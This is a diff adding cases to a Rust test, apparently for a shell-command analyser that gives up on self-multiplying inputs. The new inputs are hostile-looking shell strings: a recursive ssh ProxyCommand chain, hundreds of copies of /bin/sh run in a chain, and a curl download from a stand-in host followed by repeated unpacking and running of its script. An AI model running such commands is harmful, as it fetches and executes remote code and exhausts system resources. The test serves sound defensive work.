@@ -77,6 +77,13 @@ fn what_multiplies_itself_is_given_up_soon() {
         format!("{} <<E\n{}\nE", many("{ sh; cat; } | ", 20), many("sh\n", 4000)),
         format!("git {} x", many("-c alias.x='!git -c alias.y=!x y' ", 100)),
         format!("cat <<E > x\n{}\nE\n{}", many("echo x\n", 2000), many("sh x; ", 300)),
+        format!("ssh {} host", many("-o ProxyCommand='ssh -o ProxyCommand=x -o ProxyCommand=x y' ", 200)),
+        format!(
+            "{}{}",
+            (0..400).map(|at| format!("cp /bin/sh s{at}; ")).collect::<String>(),
+            many("s399 -c s1; ", 400)
+        ),
+        format!("curl -LO https://x.example/y.tgz; {}", many("tar xzf y.tgz; sh y/z.sh; ", 700)),
     ];
     for bomb in bombs {
         for dialect in [ShellDialect::Posix, ShellDialect::Powershell] {
